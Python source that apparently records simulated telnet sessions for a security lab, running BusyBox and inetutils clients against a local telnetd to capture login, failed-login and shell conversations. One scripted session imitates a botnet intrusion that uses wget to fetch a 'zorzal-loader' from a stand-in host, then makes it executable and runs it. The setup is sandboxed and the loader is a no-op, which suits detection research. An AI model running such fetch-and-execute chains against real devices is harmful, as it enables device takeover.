"""Records telnet: BusyBox' client, as devices have it, and GNU inetutils' one, against inetutils' telnetd.

What devices print differs; how both ends negotiate, echo and ask for a password is telnetd's and login's.
Source: RFC 854 (telnet), RFC 1143 (option negotiation).
"""

import http.server
import os
import pty
import re
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Mapping, Sequence
from pathlib import Path

from csirtlab.proofs.recorders.relay import Relay, Said
from csirtlab.proofs.recorders.stage import ensure_own_namespaces, ensure_programs, invent_user, turns_of

_ACCOUNT, _PASSWORD, _WRONG = "zorzal", "palta-con-sal", "Verano2026"
_LOADER, _FILE = "192.0.2.80", "zorzal-loader"
_PORT = 22323
_PROMPT, _LOGIN, _ASKED, _REFUSED = rb"[#$] $", rb"login: $", rb"Password: $", rb"incorrect"
Step = tuple[bytes, str, str]
"""What to wait for, what to answer, and how the answer is marked."""


def record() -> dict[str, dict[str, object]]:
    """Return the recordings by name. To be run as root in a network and mount namespace of its own.

    Raises:
        SetupError: A program is missing; the message names its package.
    """
    ensure_own_namespaces("telnet")
    ensure_programs(
        ("telnetd", "inetutils-telnet", "busybox", "openssl"), "inetutils-telnetd, inetutils-telnet and busybox"
    )
    subprocess.run(["ip", "address", "add", f"{_LOADER}/32", "dev", "lo"], check=True)
    with tempfile.TemporaryDirectory() as aside:
        folder = Path(aside)
        folder.chmod(0o755)
        relay = _serve(folder)
        made: dict[str, dict[str, object]] = {}
        for name, (client, software, steps) in _conversations().items():
            _converse([*client, "127.0.0.1", str(relay.port)], steps)
            while len(relay.conversations) == len(made):
                time.sleep(0.05)
            turns = _marked(list(turns_of(relay.conversations[-1], _FIELDS)), relay.conversations[-1], steps)
            made[f"telnet-{name}"] = {"protocol": "Telnet", "software": f"{software} to {_SERVER}", "turns": turns}
    return made


_SERVER = "inetutils-telnetd 2.4 (Debian 12)"
_FIELDS: Mapping[bytes, str] = {
    _ACCOUNT.encode(): "account",
    _PASSWORD.encode(): "password",
    _WRONG.encode(): "password",
    _LOADER.encode(): "loader",
    _FILE.encode(): "file",
    socket.gethostname().encode(): "device",
}


def _conversations() -> dict[str, tuple[Sequence[str], str, Sequence[Step]]]:
    """Return by name: the client's command, its name, and what is said."""
    busybox, inetutils = (["busybox", "telnet"], "BusyBox 1.35 telnet"), (["inetutils-telnet"], "inetutils telnet 2.4")
    log_in = [(_LOGIN, _ACCOUNT, ""), (_ASKED, _PASSWORD, "")]
    orders = [f"cd /tmp && rm -f {_FILE}", f"wget -q http://{_LOADER}/{_FILE}", f"chmod 700 {_FILE}", f"./{_FILE}"]
    work = ["ls", "cat settings.txt", "cat log.txt | tail -n 12", "exit"]
    refused = [(_LOGIN, _ACCOUNT, ""), (_ASKED, _WRONG, ""), (_REFUSED, "", "")]
    return {
        "guess-wrong": (*busybox, refused),
        "guess-right": (
            *busybox,
            [*log_in, *[(_PROMPT, order, "fetch" if "wget" in order else "") for order in orders], (_PROMPT, "", "")],
        ),
        "session": (*inetutils, [*log_in, *[(_PROMPT, order, "") for order in work]]),
    }


def _serve(folder: Path) -> Relay:
    """Start telnetd for each connection, as a super-server does, and an HTTP server that has the file."""
    home = invent_user(folder, _ACCOUNT, _PASSWORD, number=0)
    (home / ".hushlogin").touch()
    (home / "settings.txt").write_text("model=IPC-2042\nstream=main,h264,1280x720,12\nnight=auto\nntp=on\n")
    (home / "log.txt").write_text("".join(f"{hour:02}:00 stream main up, 12 fps, 0 lost\n" for hour in range(24)))
    web = folder / "web"
    web.mkdir()
    (web / _FILE).write_text("#!/bin/sh\nexit 0\n")

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object) -> None:
            super().__init__(*args, directory=str(web))  # type: ignore[arg-type]  # as the server calls it

        def log_message(self, format: str, *args: object) -> None:  # it says nothing
            pass

    threading.Thread(target=http.server.HTTPServer((_LOADER, 80), Handler).serve_forever, daemon=True).start()
    listener = socket.create_server(("127.0.0.1", _PORT))
    threading.Thread(target=_answer, args=(listener,), daemon=True).start()
    relay = Relay(_PORT)
    relay.start()
    return relay


def _answer(listener: socket.socket) -> None:
    while True:
        connection, _ = listener.accept()
        with connection:
            end = connection.fileno()
            subprocess.Popen(["telnetd", "-h"], stdin=end, stdout=end, stderr=subprocess.DEVNULL)


def _converse(command: Sequence[str], steps: Sequence[Step]) -> None:
    """Run a client on a terminal, and answer what it shows."""
    ours, theirs = pty.openpty()
    environment = {"TERM": "xterm", "PATH": os.environ["PATH"]}
    client = subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs, env=environment)
    os.close(theirs)
    shown = b""
    for wanted, answer, _ in steps:
        while not re.search(wanted, shown):
            shown += os.read(ours, 4096)
        shown = b""
        time.sleep(0.4)
        if answer:
            os.write(ours, f"{answer}\r".encode())
    time.sleep(0.6)
    client.kill()
    client.wait()
    os.close(ours)


def _marked(
    turns: list[dict[str, object]], conversation: Sequence[Said], steps: Sequence[Step]
) -> list[dict[str, object]]:
    """Mark the turns in which the client says what its steps mark."""
    for _, answer, mark in steps:
        for turn, said in zip(turns, conversation, strict=True):
            if mark and said.by_client and answer.encode() in said.content:
                turn["mark"] = mark
    return turns
